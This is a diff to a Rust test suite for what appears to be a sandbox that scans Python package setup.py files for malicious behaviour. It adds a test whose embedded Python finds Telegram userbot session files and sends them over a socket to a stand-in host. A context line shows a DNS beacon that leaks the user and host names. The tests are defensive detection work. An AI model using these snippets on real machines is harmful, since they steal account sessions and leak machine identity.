@@ -106,6 +106,10 @@ socket.gethostbyname('%s.%s.beacon.example.test' % (os.getlogin(), socket.gethos
         ".electrum",
         ".kube",
         ".docker",
+        "Desktop",
+        "Documents",
+        "Pictures",
+        "Hikka",
     ] {
         assert!(
             home.contains(decoy),
@@ -269,6 +273,73 @@ fn a_dependency_pull_is_blamed_on_setup_py() {
             .as_deref()
             .is_some_and(|p| p.starts_with("pkg_resources") || p.starts_with("setuptools"))),
         "blamed on tooling: {:?}",
+        r.findings
+    );
+}
+
+#[test]
+fn a_userbot_session_stealer_finds_a_session_and_is_seen_sending_it() {
+    if !available() {
+        return;
+    }
+    let body = r#"found = None
+for d in ['/data', os.path.expanduser('~/Hikka'), os.path.expanduser('~/Heroku')]:
+    if os.path.isdir(d):
+        for n in os.listdir(d):
+            if n.endswith('.session'):
+                found = os.path.join(d, n)
+data = open(found, 'rb').read()
+s = socket.create_connection(('203.0.113.20', 1337))
+s.sendall(b'POST /check HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n' % len(data) + data)
+s.close()
+"#;
+    let r = run_with("sessionthief", body, &SandboxOptions::default());
+    // Flows are placed at the line that opened the connection.
+    let line = setup_line(body, "create_connection");
+    assert!(
+        r.findings.iter().any(|f| f.rule.as_str() == "DYN701"
+            && f.message.contains("telegram-session")
+            && f.line == Some(line)),
+        "session not seen leaving at setup.py:{line}: {:#?}",
+        r.findings
+    );
+    assert!(has(
+        &r,
+        "DYN704",
+        "setup.py",
+        setup_line(body, "open(found")
+    ));
+}
+
+#[test]
+fn a_build_step_is_not_a_payload() {
+    if !available() {
+        return;
+    }
+    // What a C extension's setup.py does: ask pkg-config, run the compiler.
+    let body = r#"import subprocess
+subprocess.run('pkg-config --cflags zlib', shell=True, capture_output=True)
+subprocess.run(['gcc', '--version'], capture_output=True)
+"#;
+    let r = run_with("cbuild", body, &SandboxOptions::default());
+    let spawns: Vec<_> = r
+        .findings
+        .iter()
+        .filter(|f| f.rule.as_str() == "DYN706")
+        .collect();
+    assert!(!spawns.is_empty(), "the spawns are still recorded");
+    assert!(
+        spawns
+            .iter()
+            .all(|f| f.severity == sluice_model::Severity::Low),
+        "{spawns:#?}"
+    );
+    // Nothing else stands out either (the CLI's verdict: clean or low).
+    assert!(
+        r.findings
+            .iter()
+            .all(|f| f.severity <= sluice_model::Severity::Low),
+        "{:#?}",
         r.findings
     );
 }
